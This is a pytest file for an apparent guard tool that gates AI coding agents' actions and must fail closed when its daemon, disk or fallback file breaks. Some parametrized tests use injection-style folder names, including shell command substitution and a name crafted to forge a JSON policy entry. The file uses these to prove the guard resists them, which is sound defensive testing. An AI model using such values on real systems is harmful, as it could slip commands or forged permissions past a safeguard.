@pytest.fixture(autouse=True)
def no_daemon_at_home_stays() -> Iterator[None]:
    made: list[AtHome] = []
    before = AtHome.__init__

    def init(self: AtHome, machine: Machine, home: Path) -> None:
        made.append(self)
        before(self, machine, home)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(AtHome, "__init__", init)
        yield
    for here in made:
        for pid in here.daemons:
            os.kill(pid, signal.SIGKILL)


def test_a_home_too_deep_for_a_socket_does_without_a_daemon(machine: Machine) -> None:
    home = machine.folder / ("deep" * 12) / ("deeper" * 10)
    home.mkdir(parents=True)
    here = AtHome(machine, home)
    here.policy(HANDS_OFF)
    assert REASON in here.shell("touch forbidden").out
    assert here.daemons == []
    with Reader(here.state / "journal.db") as reader:
        assert any(record.body["control"] == "deny" for record in reader.records())


@pytest.fixture
def small_disk(machine: Machine) -> Iterator[Launched]:
    """A state folder on a disk of its own, of a megabyte."""
    if os.geteuid() != 0:
        pytest.skip("only root can mount a disk")
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1m,mode=700", "tmpfs", str(machine.state)], capture_output=True, text=True
    )
    if mounted.returncode:
        pytest.skip(f"a disk cannot be mounted here: {mounted.stderr}")
    here = Launched(machine)
    try:
        yield here
    finally:
        here.stop()
        subprocess.run(["umount", "-l", str(machine.state)], check=True)


def fill(folder: Path) -> None:
    with (folder / "filler").open("wb", buffering=0) as file:
        try:
            while True:
                file.write(b"\0" * 4096)
        except OSError:
            pass


@pytest.mark.parametrize("daemon", ["on", "off"])
@pytest.mark.parametrize("full", ["before", "while it runs"])
def test_a_full_disk_costs_no_guard_its_answer(small_disk: Launched, daemon: str, full: str) -> None:
    """What cannot be written down is refused by policy or decided all the same, and never let through."""
    small_disk.write(daemon=daemon == "on")
    small_disk.policy(HANDS_OFF)
    if full == "while it runs":
        assert small_disk.shell("ls").passes
    fill(small_disk.state)
    ended = small_disk.shell("touch forbidden", seconds=30)
    assert REASON in ended.out or ended.refuses
    assert small_disk.call(event="PostToolUse", seconds=30).passes


@pytest.mark.parametrize("daemon", ["on", "off"])
def test_a_state_folder_that_cannot_be_written_costs_no_guard_its_answer(small_disk: Launched, daemon: str) -> None:
    small_disk.write(daemon=daemon == "on")
    small_disk.policy(HANDS_OFF)
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk.state)], check=True)
    ended = small_disk.shell("touch forbidden", seconds=30)
    assert REASON in ended.out or ended.refuses
    assert small_disk.call(event="PostToolUse", seconds=30).passes


def test_a_state_folder_that_cannot_be_written_does_not_stop_what_is_allowed(small_disk: Launched) -> None:
    """A home that is read-only, as in a sandbox: hooks are still asked."""
    small_disk.policy(HANDS_OFF)
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk.state)], check=True)
    assert small_disk.shell("ls", seconds=30).passes


def test_a_state_folder_of_another_user_costs_no_guard_its_answer(machine: Machine) -> None:
    """Another user's files can be read, not written: the socket's folder is not this user's."""
    if os.geteuid() != 0:
        pytest.skip("only root can be another user")
    here = Launched(machine)
    here.policy(HANDS_OFF)
    machine.folder.chmod(0o755)
    for folder in (machine.state, machine.home):
        folder.chmod(0o755)
    ended = subprocess.run(
        ["/bin/sh", str(here.launcher), "20", "before_tool", "claude_code", "PreToolUse"], user=65534, group=65534,
        extra_groups=[], input=json.dumps(payload_of("claude_code", "PreToolUse")), capture_output=True, text=True,
        env=here.env, cwd="/", timeout=60,
    )  # fmt: skip
    assert (ended.returncode, "Traceback" in ended.stderr) == (2, False)
    assert "[fairlead] refused" in ended.stderr


# --- what the CLI does --------------------------------------------------------------------------


def test_a_step_that_never_ends_is_not_waited_for_longer_than_the_host_waits(
    here: Launched, folders: dict[str, Path]
) -> None:
    for folder, code in (("closed", 2), ("open", 0)):
        process = here.start("claude_code", "PreToolUse", seconds=4, cwd=folders[folder])
        began = time.monotonic()
        process.stdin.write(b'{"session_id": ')
        process.stdin.flush()
        assert process.wait(20) == code
        assert time.monotonic() - began < 4
        assert b"no answer in time" in process.stderr.read()
        for stream in (process.stdin, process.stdout, process.stderr):
            stream.close()


def test_no_arguments_at_all_are_a_refusal(here: Launched) -> None:
    ended = subprocess.run(
        ["/bin/sh", str(here.launcher)], input="{}", capture_output=True, text=True, env=here.env, timeout=30
    )
    assert ended.returncode in (0, 2)
    assert "Traceback" not in ended.stderr


@pytest.mark.parametrize("seconds", ["", "soon", "-1", "nan", "1e9", "0"])
def test_a_deadline_that_makes_no_sense_is_never_a_pass(here: Launched, folders: dict[str, Path], seconds: str) -> None:
    here.policy(HANDS_OFF)
    ended = subprocess.run(
        ["/bin/sh", str(here.launcher), seconds, "before_tool", "claude_code", "PreToolUse"],
        input=json.dumps(forbidden("claude_code")[1]), capture_output=True, text=True, env=here.env, timeout=60,
        cwd=folders["closed"],
    )  # fmt: skip
    assert ended.returncode == 2 or REASON in ended.stdout


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="there is no disk that is always full")
def test_an_answer_that_cannot_be_written_is_a_refusal(here: Launched) -> None:
    here.policy(HANDS_OFF)
    with open("/dev/full", "w") as full:
        ended = subprocess.run(
            ["/bin/sh", str(here.launcher), "20", "before_tool", "claude_code", "PreToolUse"], stdout=full,
            input=json.dumps(forbidden("claude_code")[1]), stderr=subprocess.PIPE, text=True, env=here.env, timeout=60,
            cwd=here.project,
        )  # fmt: skip
    assert ended.returncode == 2
    assert "could not be written" in ended.stderr


def test_a_working_folder_that_is_gone_is_closed(here: Launched) -> None:
    gone = here.machine.folder / "gone"
    gone.mkdir()
    interpreter_gone(here)
    process = subprocess.run(
        ["/bin/sh", "-c", 'cd "$1" && rmdir "$1" && exec /bin/sh "$2" 20 before_tool claude_code PreToolUse', "sh",
         str(gone), str(here.launcher)], input="{}", capture_output=True, text=True, env=here.env, timeout=30,
    )  # fmt: skip
    assert process.returncode == 2


def test_the_shell_needs_no_path_to_refuse(here: Launched, folders: dict[str, Path]) -> None:
    interpreter_gone(here)
    ended = here.call(cwd=folders["closed"], PATH="")
    assert ended.refuses
    assert "exit 127" in ended.err


# --- what the shell makes of fallback.json ------------------------------------------------------


@pytest.fixture
def mute(machine: Machine) -> Launched:
    """A launcher behind which there is nothing, so that all depends on the file."""
    here = Launched(machine)
    interpreter_gone(here)
    return here


OPEN = dict.fromkeys(EVENTS, "open")
CLOSED = dict.fromkeys(EVENTS, "closed")


def say(here: Launched, **folders: Any) -> None:
    say_of(here, {str(here.machine.folder / name): policies for name, policies in folders.items()})


def say_of(here: Launched, folders: dict[str, dict[str, str]]) -> None:
    """The file, as the daemon writes it."""
    with changing_folders(here.state / "fallback.json") as written:
        written.update(folders)


def test_a_folder_is_looked_up_by_event(mute: Launched) -> None:
    say(mute, p={**CLOSED, "before_tool": "open"})
    assert mute.call(event="PreToolUse").passes
    assert mute.call(event="UserPromptSubmit").refuses
    say(mute, p={**OPEN, "before_tool": "closed"})
    assert mute.call(event="PreToolUse").refuses
    assert mute.call(event="UserPromptSubmit").passes


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"{}", b"garbage", b"\0\xff" * 100, b'{"/": {"before_tool": "open"}', b"[]", b'"open"', b"open",
     b'{\n"/x": {"before_tool": "open"}\n}', b'before_tool": "open"', b'{"before_tool": "open"}'],
    ids=str,
)  # fmt: skip
def test_a_file_that_makes_no_sense_means_closed(mute: Launched, content: bytes) -> None:
    (mute.state / "fallback.json").write_bytes(content)
    assert mute.call().refuses


def test_a_file_that_is_gone_means_closed(mute: Launched) -> None:
    say(mute, p=OPEN)
    assert mute.call().passes
    (mute.state / "fallback.json").unlink()
    assert mute.call().refuses


def test_a_file_that_cannot_be_read_means_closed(mute: Launched) -> None:
    (mute.state / "fallback.json").mkdir()
    assert mute.call().refuses


def test_a_file_cut_off_in_the_middle_of_a_line_means_closed(mute: Launched) -> None:
    say(mute, p=OPEN)
    whole = (mute.state / "fallback.json").read_bytes()
    (mute.state / "fallback.json").write_bytes(whole[: whole.index(b'"before_tool"')])
    assert mute.call().refuses


def test_another_folder_means_closed(mute: Launched) -> None:
    say(mute, q=OPEN, pp=OPEN)
    assert mute.call().refuses


def test_a_folder_inside_a_project_is_the_projects(mute: Launched) -> None:
    inside = mute.project / "a" / "b"
    inside.mkdir(parents=True)
    say(mute, p=OPEN)
    assert mute.call(cwd=inside).passes


def test_the_nearest_project_counts(mute: Launched) -> None:
    inside = mute.project / "a" / "b"
    inside.mkdir(parents=True)
    say_of(mute, {str(mute.project): OPEN, str(mute.project / "a"): CLOSED})
    assert mute.call(cwd=inside).refuses
    say_of(mute, {str(mute.project): CLOSED, str(mute.project / "a"): OPEN})
    assert mute.call(cwd=inside).passes


def test_a_project_inside_another_that_no_daemon_has_seen_is_closed(mute: Launched) -> None:
    """What holds around it says nothing of what it has of its own."""
    inside = mute.project / "inside"
    mute.policy(HANDS_OFF, inside)
    say(mute, p=OPEN)
    assert mute.call(cwd=inside).refuses


def test_a_link_to_a_folder_is_that_folder(mute: Launched) -> None:
    link = mute.machine.folder / "link"
    link.symlink_to(mute.project)
    say(mute, p=OPEN)
    assert mute.call(cwd=link).passes
    assert mute.call(CLAUDE_PROJECT_DIR=str(link)).passes


def test_a_link_that_is_named_like_an_open_folder_is_not_that(mute: Launched) -> None:
    link = mute.machine.folder / "link"
    link.symlink_to(mute.project)
    say(mute, link=OPEN, p=CLOSED)
    assert mute.call(cwd=link).refuses


@pytest.mark.parametrize(
    "name",
    ["CLAUDE_PROJECT_DIR", "GEMINI_PROJECT_DIR", "COPILOT_PROJECT_DIR", "FACTORY_PROJECT_DIR", "QWEN_PROJECT_DIR"],
)
def test_a_host_names_the_project_in_its_own_variable(mute: Launched, name: str) -> None:
    host = {"CLAUDE": "claude_code", "FACTORY": "droid"}.get(name.partition("_")[0], name.partition("_")[0].lower())
    event, payload = forbidden(host)
    other = mute.machine.folder / "other"
    other.mkdir()
    say(mute, p=OPEN, other=CLOSED)
    assert mute.call(host, event, payload, **{name: str(mute.project)}, cwd=other).code == 0
    assert mute.call(host, event, payload, **{name: str(other)}).code == 2


def test_another_hosts_variable_is_not_the_project(mute: Launched) -> None:
    """An agent may have been started by another."""
    other = mute.machine.folder / "other"
    other.mkdir()
    say(mute, p=CLOSED, other=OPEN)
    assert mute.call("codex", "PreToolUse", CLAUDE_PROJECT_DIR=str(other)).refuses


ODD = ['it"s', "it's", "a b", "a*", "[ab]", "?", "$HOME", "`id`", "back\\slash", "new\nline", "tab\t", "-n", "ä", "a]",
       "trailing\n", '": {"before_tool": "open"', "\x7f"]  # fmt: skip


@pytest.mark.parametrize("name", ODD, ids=ascii)
def test_a_folder_of_an_odd_name_that_is_closed_is_closed(mute: Launched, name: str) -> None:
    odd = mute.machine.folder / "around" / name
    odd.mkdir(parents=True)
    say_of(mute, {str(odd.parent): OPEN, str(odd): CLOSED})
    assert mute.call(cwd=odd).refuses


@pytest.mark.parametrize("name", ["it's", "a b", "a*", "[ab]", "?", "$HOME", "`id`", "-n", "ä", "a]"], ids=ascii)
def test_a_folder_of_an_odd_name_that_is_open_is_open(mute: Launched, name: str) -> None:
    odd = mute.machine.folder / name
    odd.mkdir()
    say_of(mute, {str(odd): OPEN})
    assert mute.call(cwd=odd).passes


@pytest.mark.parametrize(("pattern", "folder"), [("a*", "abc"), ("[ab]", "a"), ("?", "x"), ("trailing", "trailing\n")])
def test_an_open_folder_named_like_a_pattern_opens_no_other(mute: Launched, pattern: str, folder: str) -> None:
    for name in {pattern, folder}:
        (mute.machine.folder / name).mkdir()
    say_of(mute, {str(mute.machine.folder / pattern): OPEN, str(mute.machine.folder / folder): CLOSED})
    assert mute.call(cwd=mute.machine.folder / folder).refuses
    say_of(mute, {str(mute.machine.folder / pattern): OPEN})
    assert mute.call(cwd=mute.machine.folder / folder).refuses


def test_a_folder_whose_name_is_another_json_key_opens_nothing(mute: Launched) -> None:
    """A folder cannot be named so that its line reads as another's."""
    odd = mute.machine.folder / f'x": {{}},\n"{mute.project}'.replace("/", "")
    odd.mkdir()
    say_of(mute, {str(odd): OPEN})
    assert mute.call().refuses


_name = st.text(st.sampled_from("ab\"\\'*?[]$` \n\t-é{}:,"), min_size=1, max_size=6)
_policies = st.lists(st.sampled_from([None, OPEN, CLOSED]), min_size=3, max_size=3)


def test_no_folder_passes_unless_the_nearest_that_is_known_is_open(mute: Launched) -> None:
    numbers = iter(range(1000))

    @settings(deadline=None, max_examples=60, derandomize=True, database=None)
    @given(st.lists(_name, min_size=1, max_size=3), _policies)
    def holds(names: list[str], told: list[dict[str, str] | None]) -> None:
        around = mute.machine.folder / f"example {next(numbers)}"
        folders = [around.joinpath(*names[: depth + 1]) for depth in range(len(names))]
        folders[-1].mkdir(parents=True)
        known = [(folder, policies) for folder, policies in zip(folders, told, strict=False) if policies]
        say_of(mute, {str(folder): policies for folder, policies in known})
        if mute.call(cwd=folders[-1]).passes:
            assert known[-1][1] == OPEN

    holds()


def test_the_root_folder_can_be_a_project(mute: Launched) -> None:
    say_of(mute, {"/": OPEN})
    assert mute.call(cwd=Path("/")).passes


# --- what the daemon writes into fallback.json --------------------------------------------------


def test_the_daemon_writes_what_holds_in_each_folder(known: Launched, folders: dict[str, Path]) -> None:
    told = known.fallback()
    assert {name: told[str(folder)]["before_tool"] for name, folder in folders.items()} == {
        "closed": "closed", "open": "open",
    }  # fmt: skip
    assert all(set(policies) == set(EVENTS) for policies in told.values())


def test_what_holds_is_written_anew_when_the_configuration_changes(machine: Machine) -> None:
    here = Launched(machine)
    here.policy(FAILS_OPEN)
    here.shell("ls")
    assert here.fallback()[str(here.project)]["before_tool"] == "open"
    here.policy(HANDS_OFF)
    assert ask(str(machine.socket), "POST", "/v1/reload").body == {"mistakes": []}
    assert here.shell("ls").passes
    assert here.fallback()[str(here.project)]["before_tool"] == "closed"


def test_monitor_mode_is_open_and_enforcing_again_is_not(machine: Machine) -> None:
    here = Launched(machine)
    here.policy(HANDS_OFF)
    seen = []
    for mode in ("enforce", "monitor", "enforce"):
        write_setting(EnforcementSetting(mode), machine.state)
        time.sleep(0.3)  # for which what was seen is taken to hold
        here.shell("ls")
        seen.append(here.fallback()[str(here.project)]["before_tool"])
    assert seen == ["closed", "open", "closed"]


def test_a_pause_opens_nothing_for_longer_than_it_lasts(machine: Machine) -> None:
    """The daemon may be gone when it is over, and then no process is there to write that down."""
    here = Launched(machine)
    here.policy(HANDS_OFF)
    write_setting(EnforcementSetting("monitor", time.time() + 600), machine.state)
    here.shell("ls")
    assert here.fallback()[str(here.project)]["before_tool"] == "closed"


@pytest.mark.parametrize("setting", ["untrusted", "unknown_tool"])
def test_what_fairlead_itself_denies_is_closed_while_no_daemon_can_be_asked(machine: Machine, setting: str) -> None:
    here = Launched(machine)
    machine.user(f'[defaults]\n{setting} = "deny"\n')
    (here.project / "fairlead.toml").write_text(FAILS_OPEN)
    here.shell("ls")
    assert here.fallback()[str(here.project)]["before_tool"] == "closed"


def test_a_locked_hook_is_closed_in_monitor_mode_too() -> None:
    hooks = Hooks()
    hooks.add(lambda step: None, on="before_tool", name="locked", layer="system", locked=True)
    hooks.add(lambda step: None, on="before_input", name="other")
    hooks.switch = lambda: False
    assert policies_of(hooks) == {**OPEN, "before_tool": "closed"}


def made_of(*added: dict[str, Any]) -> dict[str, str]:
    hooks = Hooks()
    for number, about in enumerate(added):
        hooks.add(lambda step: None, **({"on": "before_tool", "name": f"h{number}"} | about))
    return {event: policy for event, policy in policies_of(hooks).items() if policy != "open"}


@pytest.mark.parametrize(
    ("added", "closed"),
    [
        ([], set()),
        ([{}], {"before_tool"}),
        ([{"on_failure": "closed"}], {"before_tool"}),
        ([{"on_failure": "abort"}], {"before_tool"}),
        ([{"on_failure": "open"}], set()),
        ([{"on_failure": "open"}, {}], {"before_tool"}),
        ([{"phase": "observe"}], set()),
        ([{"phase": "gate"}], {"before_tool"}),
        ([{"enforce": False}], set()),
        ([{"on": ["before_tool", "before_input"]}], {"before_tool", "before_input"}),
        ([{"on": "*"}], set(EVENTS)),
    ],
)  # fmt: skip
def test_a_folder_is_open_where_every_hook_fails_open(added: list[dict[str, Any]], closed: set[str]) -> None:
    assert set(made_of(*added)) == closed


def test_the_guard_of_our_own_files_does_not_count(machine: Machine) -> None:
    here = Launched(machine)
    here.shell("ls")
    assert set(here.fallback()[str(here.project)].values()) == {"open"}


def test_a_folder_inside_a_project_is_written_down_as_the_project(machine: Machine) -> None:
    here = Launched(machine)
    here.policy(HANDS_OFF, here.project)
    inside = here.project / "a"
    inside.mkdir()
    link = machine.folder / "link"
    link.symlink_to(inside)
    here.shell("ls", cwd=inside, session_id="1")
    here.shell("ls", cwd=link, session_id="2")
    assert list(here.fallback()) == [str(here.project)]


def test_what_one_daemon_wrote_is_kept_by_the_next(here: Launched, folders: dict[str, Path]) -> None:
    before = here.fallback()
    here.shell("ls")
    assert here.fallback() == before | {str(here.project): OPEN}


def test_only_so_many_folders_are_remembered(tmp_path: Path) -> None:
    fallback = Fallback(tmp_path / "fallback.json")
    with changing_folders(tmp_path / "fallback.json") as folders:
        folders.update({f"/{number}": OPEN for number in range(LIMIT)})
    fallback.write("/new", Hooks())
    written = json.loads((tmp_path / "fallback.json").read_text())
    assert (len(written), "/0" in written, "/new" in written) == (LIMIT, False, True)


def test_a_file_that_cannot_be_written_is_tried_again(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    folder = tmp_path / "state"
    fallback, hooks = Fallback(folder / "fallback.json"), Hooks()
    fallback.write("/p", hooks)
    assert "cannot be written" in caplog.text
    folder.mkdir()
    fallback.write("/p", hooks)
    assert json.loads((folder / "fallback.json").read_text())["/p"] == OPEN


@pytest.mark.parametrize("name", ODD, ids=ascii)
def test_a_folder_of_any_name_is_one_line(tmp_path: Path, name: str) -> None:
    path = tmp_path / "fallback.json"
    Fallback(path).write(f"/{name}", Hooks())
    assert len(path.read_text().splitlines()) == 3
    assert len(json.loads(path.read_text())) == 1
